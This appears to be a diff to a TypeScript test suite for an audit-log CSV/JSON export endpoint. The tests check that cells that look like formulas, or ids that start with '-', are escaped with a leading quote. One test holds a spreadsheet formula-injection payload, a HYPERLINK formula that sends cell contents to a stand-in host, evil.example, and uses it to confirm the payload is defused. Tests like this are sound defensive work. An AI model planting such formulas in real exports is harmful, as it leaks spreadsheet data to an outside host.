@@ -231,6 +231,9 @@ describe('the action filter', () => {
 })
 
 describe('GET /api/audit/export', () => {
+  /** Ids are random base64url: one in 64 starts with '-', and the export defuses every such cell. */
+  const asCell = (id: string) => (id.startsWith('-') ? `'${id}` : id)
+
   it('streams the filtered log as CSV, with formula cells defused', async () => {
     const evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
     const tokenId = await insertTokenRow(t, ids.ann, evil, 'personal', null)
@@ -281,8 +284,7 @@ describe('GET /api/audit/export', () => {
       what: 'Token value revealed',
       actor: 'Ann',
       actor_email: 'ann@example.com',
-      // Ids are random base64url: one in 64 starts with '-', and every cell is defused alike.
-      target_id: tokenId.startsWith('-') ? `'${tokenId}` : tokenId,
+      target_id: asCell(tokenId),
       target_name: `'${evil}`,
       ip: '203.0.113.9',
       client: 'Chrome on Linux',
@@ -292,7 +294,7 @@ describe('GET /api/audit/export', () => {
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`)
     // Only Ann's events: her own sign-in, not Bob's.
     const logins = parseCsv(await (await download(ann, 'format=csv&action=auth.')).text())
-    expect(logins.slice(1).map((r) => [r[2], r[6]])).toEqual([['auth.login', ids.ann]])
+    expect(logins.slice(1).map((r) => [r[2], r[6]])).toEqual([['auth.login', asCell(ids.ann)]])
   })
 
   it('exports JSON lines, every page of a long log, newest first', async () => {
